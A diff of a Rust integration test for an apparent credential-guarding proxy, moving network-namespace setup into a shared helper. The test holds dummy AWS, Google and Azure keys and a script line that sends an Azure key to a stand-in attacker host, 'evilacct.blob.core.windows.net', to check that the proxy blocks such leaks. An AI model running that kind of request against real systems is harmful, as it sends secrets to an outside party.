@@ -10,48 +10,11 @@
 mod common;
 
 use common::require_peer;
-use std::process::{Command, Stdio};
-
-/// iproute2's `ip` answers `-V`, not `--version`, so `require_peer` cannot probe it.
-fn require_ip() -> bool {
-    let ok = Command::new("ip")
-        .arg("-V")
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .status()
-        .is_ok_and(|s| s.success());
-    if !ok {
-        assert!(
-            std::env::var("CI").as_deref() != Ok("true"),
-            "test peer `ip` (iproute2) is missing under CI=true (.ci/run must install it)"
-        );
-        eprintln!("SKIP: ip (iproute2) not installed");
-    }
-    ok
-}
 
 const AWS_KEY_ID: &str = "AKIAQYLPMN5HFIQR7VUX";
 const GOOGLE_KEY: &str = "AIzaSyB4xK9mQ2vL7nR3tW8pZ5cF1hJ6dG0sE2u";
 const AZURE_ACCOUNT_KEY: &str =
     "TePrUNtwR2mflMRRe77W5aQSnsJm1lroABgOJB3NWNMn/vZNh/OlUfbqTi1QobhM+9y3mN9atP0ph+m1hX/+CX==";
-
-/// `unshare -mn` works here (root, or the capabilities for namespaces).
-fn namespaces_available() -> bool {
-    let ok = Command::new("unshare")
-        .args(["-mn", "true"])
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .status()
-        .is_ok_and(|s| s.success());
-    if !ok {
-        assert!(
-            std::env::var("CI").as_deref() != Ok("true"),
-            "`unshare -mn` must work under CI=true (CI runs as root)"
-        );
-        eprintln!("SKIP: `unshare -mn` is not available here (needs CAP_SYS_ADMIN)");
-    }
-    ok
-}
 
 #[test]
 fn credentials_pass_to_their_home_only_and_never_to_strangers_namespaces() {
@@ -60,10 +23,7 @@ fn credentials_pass_to_their_home_only_and_never_to_strangers_namespaces() {
             return;
         }
     }
-    if !require_ip() {
-        return;
-    }
-    if !namespaces_available() {
+    if common::netns::namespaces_missing("-mn") {
         return;
     }
     let sigv4 = format!(
@@ -105,25 +65,14 @@ req AZURE_BLOB http://evilacct.blob.core.windows.net:18480/c/b -H "x-ms-meta-con
 echo "--- proxy log ---"
 cat "$TMP/proxy.log"
 "#;
-    let out = Command::new("timeout")
-        .args(["120", "unshare", "-mn", "bash", "-c", script])
-        .env("CLAWGUARD", env!("CARGO_BIN_EXE_clawguard"))
-        .env("SIGV4", &sigv4)
-        .env("GOOGLE_KEY", GOOGLE_KEY)
-        .env("AZURE_KEY", AZURE_ACCOUNT_KEY)
-        .env_remove("http_proxy")
-        .env_remove("https_proxy")
-        .env_remove("HTTP_PROXY")
-        .env_remove("HTTPS_PROXY")
-        .env_remove("ALL_PROXY")
-        .env_remove("all_proxy")
-        .stdin(Stdio::null())
-        .output()
-        .expect("run unshare");
-    let out = format!(
-        "{}\n--- stderr ---\n{}",
-        String::from_utf8_lossy(&out.stdout),
-        String::from_utf8_lossy(&out.stderr)
+    let out = common::netns::run_in_namespace(
+        "-mn",
+        script,
+        &[
+            ("SIGV4", &sigv4),
+            ("GOOGLE_KEY", GOOGLE_KEY),
+            ("AZURE_KEY", AZURE_ACCOUNT_KEY),
+        ],
     );
     eprintln!("{out}");
     // The legitimate home hosts still work: the key id inside a SigV4 signature to STS,
